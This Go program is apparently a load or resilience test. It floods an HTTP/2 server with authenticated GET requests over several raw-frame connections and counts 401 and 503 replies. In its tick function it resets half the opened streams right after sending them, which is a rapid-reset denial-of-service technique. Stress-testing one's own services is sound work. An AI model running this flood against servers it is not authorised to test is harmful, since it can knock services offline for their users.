package main

import (
	"bufio"
	"bytes"
	"context"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flooded is what became of a flood.
type flooded struct {
	sent, refused, unavailable, other int
	took                              time.Duration
}

func (f *flooded) add(g flooded) {
	f.sent, f.refused, f.unavailable, f.other = f.sent+g.sent, f.refused+g.refused, f.unavailable+g.unavailable, f.other+g.other
	f.took += g.took
}

const (
	floodConns = 8
	floodTick  = 5 * time.Millisecond
	// mostOpen is how many requests a connection has open: fewer than a server
	// allows.
	mostOpen = 200
)

// runFlood sends until ctx ends. It writes frames by itself: a client that waits
// for answers would be the one that is flooded.
func runFlood(ctx context.Context, address string, tokens []string, rate int) (sum flooded) {
	began := time.Now()
	var group sync.WaitGroup
	all := make([]flooded, floodConns)
	for i := range all {
		group.Go(func() {
			next := i * len(tokens) / floodConns
			for ctx.Err() == nil {
				c, err := dialFlood(ctx, address)
				if err != nil {
					time.Sleep(floodTick)
					continue
				}
				c.flood(ctx, tokens, &next, rate/floodConns)
				all[i].add(c.end())
			}
		})
	}
	group.Wait()
	for _, one := range all {
		sum.add(one)
	}
	sum.took = time.Since(began)
	return sum
}

// floodConn is one connection. Streams are reset in the order in which they were
// begun.
type floodConn struct {
	net.Conn
	out     *bufio.Writer
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	reading sync.WaitGroup

	mu    sync.Mutex // guards what follows, and the writer
	open  map[uint32]bool
	seen  flooded
	older []uint32 // to be reset at the next tick
}

func dialFlood(ctx context.Context, address string) (*floodConn, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	c := &floodConn{Conn: conn, out: bufio.NewWriterSize(conn, 64<<10), open: make(map[uint32]bool)}
	c.framer = http2.NewFramer(c.out, bufio.NewReaderSize(conn, 64<<10))
	c.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.encoder = hpack.NewEncoder(&c.block)
	_, _ = c.out.WriteString(http2.ClientPreface)
	_ = c.framer.WriteSettings()
	_ = c.framer.WriteWindowUpdate(0, 1<<30)
	if err := c.out.Flush(); err != nil {
		conn.Close()
		return nil, err
	}
	c.reading.Go(c.read)
	return c, nil
}

// flood sends at a rate until ctx or the connection ends.
func (c *floodConn) flood(ctx context.Context, tokens []string, next *int, rate int) {
	began, id, sent := time.Now(), uint32(1), 0
	for ctx.Err() == nil && id < 1<<30 {
		time.Sleep(floodTick)
		if !c.tick(tokens, next, &id, int(time.Since(began)*time.Duration(rate)/time.Second)-sent) {
			return
		}
		sent = int(time.Since(began) * time.Duration(rate) / time.Second)
	}
}

// tick resets what is to be reset, and sends n requests, as far as the server
// lets it.
func (c *floodConn) tick(tokens []string, next *int, id *uint32, n int) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, old := range c.older {
		if c.open[old] {
			delete(c.open, old)
			_ = c.framer.WriteRSTStream(old, http2.ErrCodeCancel)
		}
	}
	c.older = c.older[:0]
	for range n {
		if len(c.open) >= mostOpen {
			break
		}
		c.block.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "GET"},
			{Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: "api.example.com"},
			{Name: ":path", Value: "/things"},
			{Name: "authorization", Value: "Bearer " + tokens[*next%len(tokens)], Sensitive: true},
		} {
			_ = c.encoder.WriteField(f)
		}
		if c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: *id, BlockFragment: c.block.Bytes(), EndStream: true, EndHeaders: true}) != nil {
			return false
		}
		c.open[*id] = true
		if *next%2 == 0 {
			c.older = append(c.older, *id)
		}
		*next++
		*id += 2
		c.seen.sent++
	}
	return c.out.Flush() == nil
}

// read counts answers, and answers what has to be.
func (c *floodConn) read() {
	for {
		f, err := c.framer.ReadFrame()
		if err != nil {
			if _, one := err.(http2.StreamError); one {
				continue
			}
			_ = c.Close()
			return
		}
		c.mu.Lock()
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			delete(c.open, f.StreamID)
			switch f.PseudoValue("status") {
			case "401":
				c.seen.refused++
			case "503":
				c.seen.unavailable++
			default:
				c.seen.other++
			}
		case *http2.RSTStreamFrame:
			delete(c.open, f.StreamID)
		case *http2.SettingsFrame:
			if !f.IsAck() {
				_ = c.framer.WriteSettingsAck()
				_ = c.out.Flush()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = c.framer.WritePing(true, f.Data)
				_ = c.out.Flush()
			}
		case *http2.GoAwayFrame:
			_ = c.Close()
		}
		c.mu.Unlock()
	}
}

func (c *floodConn) end() flooded {
	_ = c.Close()
	c.reading.Wait()
	return c.seen
}
